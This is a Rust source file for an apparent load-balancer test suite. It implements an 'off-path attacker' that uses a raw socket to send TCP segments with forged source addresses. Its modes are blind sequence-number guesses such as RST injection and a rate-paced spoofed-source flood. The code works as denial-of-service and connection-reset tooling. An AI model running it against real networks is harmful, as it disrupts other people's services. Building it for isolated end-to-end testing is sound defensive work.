//! An off-path attacker for end-to-end tests: sends TCP segments with forged source addresses
//! and guessed sequence numbers through a raw socket (run it inside a test namespace only).
//!
//! wk-spoof --src IP --dst IP:PORT --ports P1,P2,... [--flags R] [--per-port N]
//!     one segment per port (and per guess) from one forged address;
//! wk-spoof --dst IP:PORT --flood-from 10.1.128.0/17 --rate 30000 --duration-s 15 [--flags S]
//!     a flood: every segment from a random address of the block and a random port, at a
//!     fixed rate, for a bounded time.
//!
//! Every segment gets a random sequence number (and acknowledgment) from the kernel's random
//! source: the blind guess an attacker who knows only the addresses and ports can make.
//! Prints {"sent": N, "secs": S}.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd},
    time::{Duration, Instant},
};

use clap::Parser;
use wklb_tests::packets::{Seg, tcp_seg};

#[derive(Parser)]
struct Cli {
    /// Forged source address (port mode).
    #[arg(long, required_unless_present = "flood_from")]
    src: Option<Ipv4Addr>,
    #[arg(long)]
    dst: SocketAddrV4,
    /// Source ports, comma-separated (port mode).
    #[arg(long, value_delimiter = ',', required_unless_present = "flood_from")]
    ports: Vec<u16>,
    /// TCP flags (letters S A F R P).
    #[arg(long, default_value = "R")]
    flags: String,
    /// Segments per port, each with a fresh guess.
    #[arg(long, default_value_t = 1)]
    per_port: u32,
    /// Flood mode: random sources from this IPv4 block (ADDRESS/PREFIX).
    #[arg(long, requires_all = ["rate", "duration_s"])]
    flood_from: Option<String>,
    /// Flood: segments per second.
    #[arg(long)]
    rate: Option<u64>,
    /// Flood: how long.
    #[arg(long)]
    duration_s: Option<f64>,
}

fn random_u32() -> u32 {
    let mut b = [0u8; 4];
    // SAFETY: getrandom fills the 4-byte buffer we own.
    let n = unsafe { libc::getrandom(b.as_mut_ptr().cast(), b.len(), 0) };
    assert_eq!(n, 4, "getrandom: {}", std::io::Error::last_os_error());
    u32::from_ne_bytes(b)
}

/// (network, mask) of "a.b.c.d/len".
fn block(s: &str) -> (u32, u32) {
    let (a, len) = s.split_once('/').expect("ADDRESS/PREFIX");
    let a: Ipv4Addr = a.parse().expect("an IPv4 address");
    let len: u32 = len.parse().expect("a prefix length");
    assert!((8..=32).contains(&len), "prefix length 8-32");
    let mask = u32::MAX << (32 - len);
    (u32::from(a) & mask, mask)
}

struct Raw {
    sock: OwnedFd,
    to: libc::sockaddr_in,
}

impl Raw {
    fn new(dst: Ipv4Addr) -> Self {
        // SAFETY: plain socket call; the descriptor is owned below.
        let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
        assert!(fd >= 0, "raw socket: {}", std::io::Error::last_os_error());
        Raw {
            // SAFETY: a fresh descriptor nobody else owns.
            sock: unsafe { OwnedFd::from_raw_fd(fd) },
            to: libc::sockaddr_in {
                sin_family: libc::AF_INET as u16,
                sin_port: 0,
                sin_addr: libc::in_addr {
                    s_addr: u32::from_ne_bytes(dst.octets()),
                },
                sin_zero: [0; 8],
            },
        }
    }

    fn send(&self, src: (Ipv4Addr, u16), dst: SocketAddrV4, flags: &str, seq: u32, ack: u32) {
        let seg = Seg {
            flags,
            seq,
            ack,
            ..Seg::default()
        };
        let frame = tcp_seg(src, (*dst.ip(), dst.port()), &seg);
        // IPPROTO_RAW sockets take the IP header from us: skip the Ethernet header.
        let packet = &frame[14..];
        // SAFETY: sendto with a buffer and address we own, of the sizes given.
        let n = unsafe {
            libc::sendto(
                self.sock.as_raw_fd(),
                packet.as_ptr().cast(),
                packet.len(),
                0,
                (&self.to as *const libc::sockaddr_in).cast(),
                size_of::<libc::sockaddr_in>() as u32,
            )
        };
        assert_eq!(
            n as usize,
            packet.len(),
            "sendto: {}",
            std::io::Error::last_os_error()
        );
    }
}

fn main() {
    let cli = Cli::parse();
    let raw = Raw::new(*cli.dst.ip());
    let t0 = Instant::now();
    let mut sent = 0u64;
    if let Some(b) = &cli.flood_from {
        let (net, mask) = block(b);
        // xorshift64 seeded from the kernel: one syscall per flood, not four per segment.
        let mut x = (random_u32() as u64) << 32 | random_u32() as u64 | 1;
        let mut next = move || {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x
        };
        let rate = cli.rate.expect("--rate").max(1);
        let duration = Duration::from_secs_f64(cli.duration_s.expect("--duration-s"));
        // Paced in 1 ms steps: each step sends what the rate allows by then.
        while t0.elapsed() < duration {
            let due = (t0.elapsed().as_secs_f64() * rate as f64) as u64;
            while sent < due {
                let (a, b) = (next(), next());
                let src = Ipv4Addr::from(net | (a as u32 & !mask));
                let port = 1024 + ((a >> 32) % 64000) as u16;
                raw.send((src, port), cli.dst, &cli.flags, b as u32, (b >> 32) as u32);
                sent += 1;
            }
            std::thread::sleep(Duration::from_millis(1));
        }
    } else {
        let src = cli.src.expect("--src");
        for port in &cli.ports {
            for _ in 0..cli.per_port {
                raw.send(
                    (src, *port),
                    cli.dst,
                    &cli.flags,
                    random_u32(),
                    random_u32(),
                );
                sent += 1;
            }
        }
    }
    println!(
        "{{\"sent\":{sent},\"secs\":{:.3}}}",
        t0.elapsed().as_secs_f64()
    );
}
